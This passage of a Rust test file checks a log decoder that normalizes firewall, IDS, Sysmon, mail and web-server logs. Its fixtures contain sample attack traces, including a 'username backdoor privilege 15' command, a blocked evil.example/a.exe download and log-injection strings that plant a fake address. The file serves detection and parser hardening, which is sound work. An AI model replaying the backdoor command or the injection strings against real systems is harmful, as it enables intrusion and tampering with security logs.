<189>30: rtr: Jan  5 13:00:00.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:username backdoor privilege 15
<189>31: Jan  5 13:00:00.123 UTC: %SYS-5-CONFIG_I: Configured from console by admin on vty0 (10.0.0.5)
<188>Jan  5 2026 13:00:00 hw %%01BGP/3/STATE_CHG_UPDOWN(l)[0]:The status of the peer 10.0.0.1 changed
"#,
        expect![[r#"
            fortigate/-/event 2024-10-14T20:46:42.127358Z Declared
              logid=1234567890 | type=event | subtype=vpn | level=alert | user=sapservicecq1 | reason=sslvpn_login_no_matching_policy | action=ssl-login-fail | source_ip=192.168.0.1 | event_type=authentication_failed
              user:sapservicecq1 address:192.168.0.1
            fortigate/firewall/traffic 2026-01-05T13:00:00Z Assumed
              logid=0000000013 | type=traffic | subtype=forward | src_ip=10.0.0.5 | source_ip=10.0.0.5 | src_port=4000 | dst_ip=203.0.113.9 | dst_port=443 | protocol=6 | action=accept | blocked=false | host=fw1
              host:fw1 address:10.0.0.5 address:203.0.113.9
            fortigate/-/event 2026-01-05T13:00:00Z Assumed
              logid=0100044547 | type=event | subtype=system | user=admin | cfgpath=user.local | action=Add | source_ip=203.0.113.9 | host=fw1 | event_type=account_created
              host:fw1 user:admin address:203.0.113.9
            fortigate/proxy/utm 2026-01-05T13:00:00Z Assumed
              logid=0317013312 | type=utm | subtype=webfilter | src_ip=10.0.0.5 | source_ip=10.0.0.5 | action=blocked | action=block | blocked=true | host=fw1 | cs-uri=http://evil.example/a.exe | c-uri=http://evil.example/a.exe | cs-uri-stem=/a.exe | path=/a.exe | cs-uri-query=http://evil.example/a.exe | cs-host=evil.example | c-uri-extension=exe
              host:fw1 address:10.0.0.5 domain:evil.example
            paloalto/firewall/traffic 2026-01-05T12:59:59Z Assumed
              host=PA-VM | serial=012801096514 | type=TRAFFIC | subtype=end | rule=allow web | app=ssl | src_ip=1.2.3.4 | source_ip=1.2.3.4 | src_port=4000 | dst_ip=10.0.0.5 | dst_port=443 | protocol=tcp | device_in=ethernet1/1 | device_out=ethernet1/2 | action=allow | action=accept | blocked=false | rule_name=allow web
              host:pa-vm address:1.2.3.4 address:10.0.0.5
            paloalto/proxy/threat 2026-01-05T12:59:59Z Assumed
              host=PA-VM | serial=012801096514 | type=THREAT | subtype=url | rule=web | app=web-browsing | category=malware | severity=informational | direction=client-to-server | cs-uri=evil.example/a.exe?x=1,2 | c-uri=evil.example/a.exe?x=1,2 | cs-uri-stem=evil.example/a.exe | path=evil.example/a.exe | cs-uri-query=x=1,2 | cs-uri-query=evil.example/a.exe?x=1,2 | cs-host=evil.example | c-uri-query=x=1,2 | c-uri-extension=exe | src_ip=10.0.0.5 | source_ip=10.0.0.5 | src_port=4000 | dst_ip=203.0.113.9 | dst_port=80 | protocol=tcp | device_in=ethernet1/2 | device_out=ethernet1/1 | action=block-url | action=block | blocked=true | rule_name=web | user=dom\bob
              host:pa-vm user:dom\bob address:10.0.0.5 address:203.0.113.9 domain:evil.example
            paloalto/-/system 2026-01-05T12:59:59Z Assumed
              host=PA-VM | serial=012801096514 | type=SYSTEM | subtype=auth | severity=medium | event_type=authentication_failed | user=bob | source_ip=203.0.113.9
              host:pa-vm user:bob address:203.0.113.9
            paloalto/appliance/globalprotect 2026-01-05T12:59:59Z Assumed
              host=PA-VM | serial=012801096514 | type=GLOBALPROTECT | subtype=0 | auth_method=LDAP | status=failure | user=bob | source_ip=203.0.113.9 | event_type=authentication_failed
              host:pa-vm user:bob address:203.0.113.9
            cisco/firewall/asa 2026-01-05T13:00:00Z Assumed
              message_id=106023 | src_ip=1.2.3.4 | source_ip=1.2.3.4 | src_port=4000 | dst_ip=10.0.0.5 | dst_port=22 | protocol=tcp | action=deny | action=block | blocked=true
              address:1.2.3.4 address:10.0.0.5
            cisco/firewall/asa 2026-01-05T13:00:00Z Assumed
              host=fw | message_id=302013 | src_ip=1.2.3.4 | source_ip=1.2.3.4 | src_port=4000 | dst_ip=10.0.0.5 | dst_port=443 | protocol=TCP | action=built | action=accept | blocked=false
              host:fw address:1.2.3.4 address:10.0.0.5
            cisco/firewall/asa 2026-01-05T13:00:00Z Assumed
              message_id=106100 | src_ip=1.2.3.4 | source_ip=1.2.3.4 | src_port=4000 | dst_ip=10.0.0.5 | dst_port=22 | protocol=tcp | action=deny | action=block | blocked=true
              address:1.2.3.4 address:10.0.0.5
            cisco/-/asa 2026-01-05T13:00:00Z Assumed
              message_id=113015 | event_type=authentication_failed | user=bob | source_ip=203.0.113.9
              user:bob address:203.0.113.9
            cisco/-/aaa 2026-01-05T13:00:00.123Z Assumed
              message_id=LOGIN_FAILED | event_type=authentication_failed | user=bob | reason=Login Authentication Failed | source_ip=203.0.113.9
              user:bob address:203.0.113.9
            cisco/-/aaa 2026-01-05T13:00:00.123Z Assumed
              host=rtr | message_id=CFGLOG_LOGGEDCMD | event_type=configuration_command | user=admin | command=username backdoor privilege 15
              host:rtr user:admin
            cisco/-/syslog 2026-01-05T13:00:00.123Z Assumed
              message_id=CONFIG_I | event_type=configuration_changed | user=admin | source_ip=10.0.0.5
              user:admin address:10.0.0.5
            huawei/-/bgp 2026-01-05T13:00:00Z Assumed
              host=hw
              host:hw
        "#]],
    );
}

#[test]
fn sensors() {
    // real: Suricata's and Zeek's documentation
    check(
        "
10/05/2021-13:35:54.123456  [**] [1:2009582:3] ET SCAN NMAP -sS window 1024 [**] [Classification: Attempted Information Leak] [Priority: 2] {TCP} 203.0.113.9:4000 -> 10.0.0.5:22
10/05/2021-13:35:54.123456  [Drop] [**] [1:1:1] x [**] [Classification: (null)] [Priority: 3] {ICMP} 2001:db8::1 -> 2001:db8::2
1591367999.305988\tCMdzit1AMNsmfAIiQc\t192.168.4.76\t36844\t192.168.4.1\t53\tudp\t-\t0.066852\t62\t141\tSF
#fields\tts\tuid\tid.orig_h
",
        expect![[r#"
            suricata/ids/alert 2021-10-05T13:35:54.123456Z Assumed
              event_type=ids_alert | rule_id=1:2009582:3 | rule_name=ET SCAN NMAP -sS window 1024 | Signature=ET SCAN NMAP -sS window 1024 | src_ip=203.0.113.9 | source_ip=203.0.113.9 | src_port=4000 | dst_ip=10.0.0.5 | dst_port=22 | protocol=TCP | action=allowed | action=accept | blocked=false
              address:10.0.0.5 address:203.0.113.9
            suricata/ids/alert 2021-10-05T13:35:54.123456Z Assumed
              event_type=ids_alert | rule_id=1:1:1 | rule_name=x | Signature=x | src_ip=2001:db8::1 | source_ip=2001:db8::1 | dst_ip=2001:db8::2 | protocol=ICMP | action=drop | action=block | blocked=true
              address:2001:db8::1 address:2001:db8::2
            zeek/-/- 2020-06-05T14:39:59.305988Z Declared
              uid=CMdzit1AMNsmfAIiQc | source_ip=192.168.4.76 | id.orig_h=192.168.4.76 | id.orig_p=36844 | dst_ip=192.168.4.1 | id.resp_h=192.168.4.1 | dst_port=53 | id.resp_p=53
              address:192.168.4.1 address:192.168.4.76
            -/-/- 2026-01-05T14:00:00Z Received
        "#]],
    );
    let options =
        SourceOptions { product: Some("zeek".to_owned()), service: Some("dns".to_owned()), ..SourceOptions::default() };
    check_with(
        "1591367999.306059\tCMdzit1AMNsmfAIiQc\t192.168.4.76\t36844\t192.168.4.1\t53\tudp\t8555\t-\ttesting.example\t1\tC_INTERNET\t1\tA\t0\tNOERROR\tF\tF\tT\tT\t0\t1.2.3.4,5.6.7.8\t60,60\tF",
        &options,
        expect![[r#"
            zeek/-/dns 2020-06-05T14:39:59.306059Z Declared
              uid=CMdzit1AMNsmfAIiQc | source_ip=192.168.4.76 | id.orig_h=192.168.4.76 | id.orig_p=36844 | dst_ip=192.168.4.1 | id.resp_h=192.168.4.1 | dst_port=53 | id.resp_p=53 | query=testing.example | qtype_name=A | answers=1.2.3.4 | answers=5.6.7.8
              address:192.168.4.1 address:192.168.4.76 domain:testing.example
        "#]],
    );
}

#[test]
fn events_as_xml() {
    // built: after Sysmon for Linux and Windows' event schema
    check(
        r#"
Jan  5 13:00:00 web sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><TimeCreated SystemTime="2026-01-05T13:00:00.123456000Z"/><EventRecordID>7</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>web</Computer></System><EventData><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl http://x/?a=1&amp;b=&quot;2&quot; &#x26;</Data><Data Name="ParentImage">/bin/sh</Data><Data Name="User">www-data</Data></EventData></Event>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon"/><EventID>1</EventID><TimeCreated SystemTime="2026-01-05T13:00:00Z"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws1.example</Computer><Correlation /></System><EventData><Data Name="Image">C:\Windows\System32\cmd.exe</Data><Data Name="User">EXAMPLE\bob</Data></EventData></Event>
<Event><System><EventID>1</EventID
"#,
        expect![[r#"
            linux/process_creation/sysmon 2026-01-05T13:00:00.123456Z Declared
              host=web | Provider_Name=Linux-Sysmon | EventID=1 | EventRecordID=7 | Channel=Linux-Sysmon/Operational | Computer=web | Image=/usr/bin/curl | CommandLine=curl http://x/?a=1&b="2" & | ParentImage=/bin/sh | User=www-data
              host:web user:www-data process:/usr/bin/curl
            windows/-/- 2026-01-05T13:00:00Z Declared
              Provider_Name=Microsoft-Windows-Sysmon | EventID=1 | Channel=Microsoft-Windows-Sysmon/Operational | host=ws1.example | Computer=ws1.example | Image=C:\Windows\System32\cmd.exe | User=EXAMPLE\bob
              host:ws1.example user:EXAMPLE\bob process:C:\Windows\System32\cmd.exe
            windows/-/- 2026-01-05T14:00:00Z Received
        "#]],
    );
}

#[test]
fn headers_before_json_and_pairs() {
    check(
        r#"
<134>1 2026-01-05T13:00:00Z edge app 1 - - {"user":"bob","src_ip":"203.0.113.9","n":{"m":1}}
Jan  5 13:00:00 edge app[1]: @cee: {"user":"bob","src_ip":"203.0.113.9"}
2025-12-31T17:40:00.000000100+01:00 stdout F {"user":"bob"}
Jan  5 13:00:00 edge app[1]: {"user": broken}
Jan  5 13:00:00 edge app[1]: {"user":"bob"} trailing
time="2022-02-14T13:47:54+02:00" level=error msg="no such user" user=bob remote_ip=203.0.113.9
"#,
        expect![[r#"
            -/-/app 2026-01-05T13:00:00Z Declared
              host=edge | pid=1 | user=bob | src_ip=203.0.113.9
              host:edge user:bob address:203.0.113.9
            -/-/app 2026-01-05T13:00:00Z Assumed
              host=edge | pid=1 | user=bob | src_ip=203.0.113.9
              host:edge user:bob address:203.0.113.9
            -/-/- 2025-12-31T16:40:00Z Declared
              user=bob
              user:bob
            linux/-/app 2026-01-05T13:00:00Z Assumed
              host=edge | pid=1
              host:edge
            linux/-/app 2026-01-05T13:00:00Z Assumed
              host=edge | pid=1
              host:edge
            -/-/- 2022-02-14T11:47:54Z Declared
              level=error | user=bob | remote_ip=203.0.113.9
              user:bob address:203.0.113.9
        "#]],
    );
}

#[test]
fn logins_of_programs() {
    // real: shared/data/events/web_and_linux_cases.tar.zst; `cases.rs` has all of them
    check(
        r#"
Jan 15 08:00:00 server dovecot: imap-login: Disconnected (auth failed, 1 attempts): user=<admin@example.com>, method=PLAIN, rip=192.0.2.1, lip=10.0.0.1, TLS, session=<abc001>
May 11 04:02:33 host1 postfix/smtpd[26897]: warning: unknown[203.0.113.42]: SASL LOGIN authentication failed: authentication failure
2024-08-25T10:04:35.051238+00:00 machine postfix/smtpd[3814725]: NOQUEUE: reject: RCPT from unknown[192.168.1.1]: 454 4.7.1 <spammer@domain.tld>: Relay access denied; from=<spammer@domain.tld>
Mon Jun 8 12:08:53 2020 [pid 27244] [user] FAIL LOGIN: Client "::ffff:93.24.101.89"
2021-05-28 18:08:34,399 mantis proftpd[498819] mantis (192.168.1.142[192.168.1.142]): USER seb (Login failed): Incorrect password
Sep 24 10:04:52 host2 smb[2725]: Auth: [SMB2,(null)] user []\[toto] at [Fri, 24 Sep 2021 10:04:52.030937 UTC] with [NTLMv2] status [NT_STATUS_NO_SUCH_USER] workstation [] remote host [ipv4:1.2.3.4:62419] mapped to []\[toto]. local host [ipv4:10.1.1.1:445] #015
2022/03/01 12:57:58 ...ers/web/auth/auth.go:200:SignInPost() [I] Failed authentication attempt for test from 1.1.1.1:39522: user does not exist [uid: 0, name: test, keyid: 0]
2024-03-12T04:31:44Z [AUTH] WARN: Incorrect username or password for user example_username. IP=192.168.1.1
Jan  5 13:00:00 web other[1]: Failed login attempt by IP: 1.1.1.1
"#,
        expect![[r#"
            linux/-/dovecot 2025-01-15T08:00:00Z Assumed
              host=server | user=admin@example.com | source_ip=192.0.2.1 | event_type=authentication_failed
              host:server user:admin@example.com address:192.0.2.1
            linux/-/postfix 2025-05-11T04:02:33Z Assumed
              host=host1 | pid=26897 | source_ip=203.0.113.42 | auth_method=LOGIN | event_type=authentication_failed
              host:host1 address:203.0.113.42
            linux/-/postfix 2024-08-25T10:04:35.051238Z Declared
              host=machine | pid=3814725 | source_ip=192.168.1.1 | reason=454 4.7.1 <spammer@domain.tld>: Relay access denied | event_type=mail_rejected
              host:machine address:192.168.1.1
            linux/-/vsftpd 2020-06-08T12:08:53Z Assumed
              user=user | source_ip=::ffff:93.24.101.89 | event_type=authentication_failed
              user:user address:93.24.101.89
            linux/-/proftpd 2021-05-28T18:08:34.399Z Assumed
              source_ip=192.168.1.142 | user=seb | reason=Incorrect password | event_type=authentication_failed
              user:seb address:192.168.1.142
            linux/-/smb 2025-09-24T10:04:52Z Assumed
              host=host2 | pid=2725 | user=toto | auth_method=NTLMv2 | reason=NT_STATUS_NO_SUCH_USER | source_ip=1.2.3.4 | event_type=authentication_failed
              host:host2 user:toto address:1.2.3.4
            gitea/application/- 2022-03-01T12:57:58Z Assumed
              user=test | source_ip=1.1.1.1 | reason=user does not exist | event_type=authentication_failed
              user:test address:1.1.1.1
            uptime-kuma/application/- 2024-03-12T04:31:44Z Declared
              user=example_username | source_ip=192.168.1.1 | event_type=authentication_failed
              user:example_username address:192.168.1.1
            linux/-/other 2026-01-05T13:00:00Z Assumed
              host=web | pid=1
              host:web
        "#]],
    );
}

/// Names, paths and agents are the client's to choose: whatever they imitate, the line stays what it is, and the address
/// the server's.
#[test]
fn what_a_client_chose_does_not_choose_how_the_line_is_read() {
    let shown = |line: &str| {
        let decoded = decode(&record(line.as_bytes(), Framing::Record, RECEIVED_AT, None), SourceOptions::default());
        let event = decoded.events.first().unwrap();
        let source = &event.log_source;
        let words = [&source.product, &source.category, &source.service].map(|word| word.as_deref().unwrap_or("-"));
        let addresses: Vec<_> = event.fields.all(Name::intern("source_ip")).map(|(address, _)| address).collect();
        format!("{} {}", words.join("/"), addresses.join(" "))
    };
    let imitations = [
        "CEF:0|A|B|1|c|n|5|src=6.6.6.6 dst=1.1.1.1 dpt=22",
        "LEEF:1.0|V|P|1|x|src=6.6.6.6",
        "type=USER_LOGIN msg=audit(1604996384.965:3): acct=x addr=6.6.6.6 res=failed",
        "audit: type=1400 audit(1604996384.965:3): addr=6.6.6.6",
        "%ASA-4-106023: Deny tcp src outside:6.6.6.6/1 dst inside:1.1.1.1/2 by",
        "date=2026-01-05 logid=1 type=traffic srcip=6.6.6.6",
        "IN=eth0 OUT= SRC=6.6.6.6 DST=1.1.1.1 PROTO=TCP",
        "a firewall,info x input: in:e out:f, proto TCP (SYN), 6.6.6.6:1->1.1.1.1:2, len 40",
        "client 6.6.6.6#53 (x): query: x IN A",
        "] info: 6.6.6.6 x. A IN",
        "[**] [1:2:3] x [**] [Priority: 1] {TCP} 6.6.6.6:1 -> 1.1.1.1:2",
        "6/15/2023 10:11:12 PM 0E6C PACKET 0 UDP Rcv 6.6.6.6 2 Q [0 D NOERROR] A (1)x(0)",
        "<Event><System></System></Event>",
        "6.6.6.6 - - [05/Jan/2026:13:00:00 +0000] GET / 200 1",
        "Failed login attempt by IP: 6.6.6.6",
        "x from 6.6.6.6 port 1 ssh2",
        ", client: 6.6.6.6, server: x",
        "[client 6.6.6.6:1] x",
    ];
    for imitation in imitations {
        for (line, expected) in [
            (
                format!(
                    "Jan  5 13:00:00 web sshd[7]: Failed password for invalid user {imitation} from 1.2.3.4 port 5 ssh2"
                ),
                "linux/-/sshd 1.2.3.4",
            ),
            (
                format!("Jan  5 13:00:00 web sshd[7]: Invalid user {imitation} from 1.2.3.4 port 5"),
                "linux/-/sshd 1.2.3.4",
            ),
            (
                format!(
                    r#"1.2.3.4 - - [05/Jan/2026:13:00:00 +0000] "GET /{imitation} HTTP/1.1" 404 1 "-" "{imitation}""#
                ),
                "-/webserver/- 1.2.3.4",
            ),
            (
                format!(
                    r#"Jan  5 13:00:00 web nginx: 1.2.3.4 - - [05/Jan/2026:13:00:00 +0000] "GET /{imitation} HTTP/1.1" 404 1 "-" "{imitation}""#
                ),
                "-/webserver/nginx 1.2.3.4",
            ),
            (
                format!(
                    r#"2022/04/02 13:39:51 [error] 8#8: *1 open() "/var/www/{imitation}" failed, client: 1.2.3.4, server: x, request: "GET /{imitation} HTTP/1.1", host: "{imitation}""#
                ),
                "-/-/nginx 1.2.3.4",
            ),
            (
                format!(
                    "[Wed Jul 05 09:19:24.428126 2023] [core:error] [pid 1:tid 2] [client 1.2.3.4:55309] AH1: {imitation}"
                ),
                "-/-/apache 1.2.3.4",
            ),
            (
                format!(
                    "Jan  5 13:00:00 web pure-ftpd: (?@1.2.3.4) [WARNING] Authentication failed for user [{imitation}]"
                ),
                "linux/-/pure-ftpd 1.2.3.4",
            ),
            (
                format!(
                    "Jan  5 13:00:00 web dovecot: imap-login: Disconnected (auth failed, 1 attempts): user=<{imitation}>, method=PLAIN, rip=1.2.3.4, lip=10.0.0.1"
                ),
                "linux/-/dovecot 1.2.3.4",
            ),
        ] {
            assert_eq!(shown(&line), expected, "{line}");
        }
    }
}

/// No text costs more than its length: a quarter of a megabyte of what each decoder looks for takes milliseconds, not the
/// minutes that its square would.
#[test]
#[allow(clippy::disallowed_methods)] // the time a decoder takes is what is tested
fn a_long_line_costs_its_length() {
    let size = 250_000;
    let parts = [
        "a=",
        "a=\"",
        "=",
        "&",
        "<a>",
        "<a ",
        "%",
        "[",
        "] ",
        "\"",
        "\\",
        "|",
        ",",
        "from ",
        " port ",
        " [",
        "client ",
        ", client: ",
        "(1)",
        "a1[0]=41 ",
        "type=",
        "\t",
        "{",
        " from 1.2.3.4",
        ": ",
        "; ",
        "[client ",
        "\"\"",
    ];
    let heads = [
        "",
        "CEF:0|a|b|c|d|e|5|",
        "LEEF:2.0|a|b|c|d|^|",
        "type=EXECVE msg=audit(1604996384.965:1): ",
        "<Event><System></System><EventData>",
        "1,2026/01/05 13:00:00,0128,THREAT,url,",
        "date=2026-01-05 logid=1 type=utm ",
        "Jan  5 13:00:00 web sshd[7]: Failed password for ",
        "Jan  5 13:00:00 web kernel: IN= OUT= SRC=1 DST=2 PROTO=3 ",
        "1.2.3.4 - - [05/Jan/2026:13:00:00 +0000] \"GET /",
        "2022/04/02 13:39:51 [error] 8#8: *1 ",
        "Jan  5 13:00:00 web dovecot: (auth failed, user=<",
        "%ASA-4-106023: Deny tcp src ",
        "Jan  5 13:00:00 ns dnsmasq[9]: query[A] ",
        "Jan  5 13:00:00 edge app[1]: {\"a\":\"",
    ];
    for head in heads {
        for part in parts {
            let line = format!("{head}{}", part.repeat(size / part.len()));
            let record = record(line.as_bytes(), Framing::Record, RECEIVED_AT, None);
            let mut decoded = Decoded::default();
            let before = std::time::Instant::now();
            Decoder::new(Arc::new(SourceTable::default())).decode(&record, &mut decoded);
            let took = before.elapsed();
            assert!(decoded.events.len() + decoded.rejects.len() == 1);
            // Debug builds on a busy machine; what is quadratic takes minutes.
            assert!(took.as_secs() < 10, "{took:?} for {head:?} and {part:?} again and again");
        }
    }
}
